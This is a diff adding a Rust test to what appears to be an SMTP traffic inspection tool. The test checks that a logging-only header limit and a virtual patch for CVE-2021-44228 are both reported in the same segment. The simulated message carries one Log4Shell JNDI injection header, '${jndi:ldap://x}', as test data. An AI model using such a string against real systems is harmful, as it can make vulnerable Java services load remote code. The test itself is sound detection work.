@@ -14,7 +14,7 @@ use mailguard::time::Instant;
 use crate::bounds::ATTACKER;
 use crate::support::crowd::Crowd;
 use crate::support::packet::{ACK, FIN, RST, SYN, arrival};
-use crate::support::rig::{Rig, settings};
+use crate::support::rig::{Rig, settings, settings_with};
 
 const ISN: [u32; 2] = [1_000, 5_000];
 
@@ -416,6 +416,31 @@ fn what_is_counted_of_a_message_is_told_when_it_is_one_no_more() {
         });
         assert_eq!(rest, Some(masked - count as u64), "a dot was masked of each false end");
     }
+}
+
+/// A limit that only logs hides no patch that only logs, met in the same segment.
+#[test]
+fn a_limit_and_a_patch_of_one_run_are_both_told() {
+    let mut rig = Rig::established(settings_with("esmtp", &[("header_fields_max", "2 log")]), ISN);
+    for (from, line) in [
+        (S, &b"220 a\r\n"[..]),
+        (C, b"HELO a\r\n"),
+        (S, b"250 a\r\n"),
+        (C, b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
+        (S, b"250 ok\r\n250 ok\r\n354 go\r\n"),
+        (C, b"a: b\r\nb: c\r\nc: d\r\nX: ${jndi:ldap://x}\r\n"),
+    ] {
+        let at = rig.side(from).received;
+        let _ = rig.send(from, at, line);
+    }
+    assert!(rig.has_told(
+        |what| matches!(what, What::Exceeded { excess, .. } if excess.rule == Rule::HeaderFields)
+    ));
+    let is_named = |what: &What| {
+        let What::Edited { patches, .. } = what else { return false };
+        patches.iter().any(|id| **id == *"CVE-2021-44228")
+    };
+    assert!(rig.has_told(is_named), "{:?}", rig.records);
 }
 
 /// The rest of it leaves, and is not shown so: behind any 334 a line may be a credential.
